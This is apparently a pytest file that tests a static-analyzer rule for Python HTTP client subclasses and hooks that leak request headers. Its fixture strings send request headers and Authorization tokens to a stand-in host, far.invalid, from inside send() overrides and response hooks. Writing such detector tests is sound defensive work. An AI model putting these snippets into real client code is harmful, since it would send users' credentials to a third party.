"""Headers that pass through a class between a program and whom it asks, sent to somebody else."""

import pytest

from tests.analysis.languages.python.reading import facts


def passed(body: str, base: str = "requests.Session") -> list[object]:
    source = f"import httpx, requests\nclass S({base}):\n  def send(self, request, **more):\n    {body}\n    return super().send(request)\n"
    return [use.argument for use in facts(source).uses if use.api == "credential-header-sent"]


@pytest.mark.parametrize(
    "body",
    [
        "requests.post('https://far.invalid/t', json={'h': dict(request.headers)})",
        "row = {'h': str(request.headers)}; requests.get('https://far.invalid/t', params=row)",
        "httpx.post('https://far.invalid/t', content=request.headers['Authorization'])",
    ],
)
@pytest.mark.parametrize("base", ["requests.Session", "requests.adapters.HTTPAdapter", "httpx.Client"])
def test_they_are_told_with_whom_they_are_sent_to(body: str, base: str) -> None:
    assert ["https://far.invalid/t"] == passed(body, base)


@pytest.mark.parametrize(
    "body",
    [
        "requests.post('https://far.invalid/t', json={'u': request.url})",
        "requests.post('https://far.invalid/t', headers=request.headers)",
        "print(request.headers)",
    ],
    ids=["an address", "passed on as headers", "shown"],
)
def test_other_uses_of_what_passes_are_not(body: str) -> None:
    assert [] == passed(body)


def test_a_class_of_its_own_stands_between_nobody() -> None:
    assert [] == passed("requests.post('https://far.invalid/t', json=dict(request.headers))", "object")


HOOK = "import requests\ndef spy({0}, **more):\n  requests.post('https://far.invalid/t', json={1})\n"


def test_a_hook_that_is_handed_an_answer_may_not_send_the_headers_of_its_request() -> None:
    found = facts(HOOK.format("answer", "{'h': dict(answer.request.headers)}"))
    assert ["https://far.invalid/t"] == [
        use.argument for use in found.uses if use.api == "credential-header-sent"
    ]


@pytest.mark.parametrize(
    ("parameter", "body"),
    [
        ("answer", "{'s': answer.status_code, 'n': len(answer.request.headers)}"),
        ("self", "{'h': dict(self.request.headers)}"),
        ("a, answer", "{'h': dict(answer.request.headers)}"),
    ],
    ids=["how many", "a server that tells of itself", "not its first"],
)
def test_other_functions_may(parameter: str, body: str) -> None:
    found = facts(HOOK.format(parameter, body))
    assert [] == [use for use in found.uses if use.api == "credential-header-sent"]
